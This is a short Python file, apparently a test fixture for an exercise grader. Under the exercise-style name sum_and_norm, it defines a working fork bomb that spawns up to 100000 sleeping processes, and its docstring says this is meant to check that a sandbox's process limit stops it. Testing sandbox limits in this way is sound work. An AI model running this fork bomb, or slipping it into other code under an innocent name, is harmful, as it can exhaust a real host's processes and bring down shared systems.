"""A fork bomb: fork until fork fails, every process sleeping. RLIMIT_NPROC in the child's own user
namespace stops it (mxnet, which restarts its threads at each fork, then aborts: the child crashes).
That exercise is an error, the others are graded by a fresh child, and nothing is left afterwards."""
import os
import time

from solved_ch02_preliminaries import *  # noqa: F401,F403


def sum_and_norm(X, most=100000):
    for _ in range(most):
        try:
            if os.fork() == 0:
                time.sleep(600)
                os._exit(0)
        except OSError as exc:
            raise RuntimeError("the fork bomb was stopped: %s" % exc)
    raise RuntimeError("the attack worked: %d processes" % most)
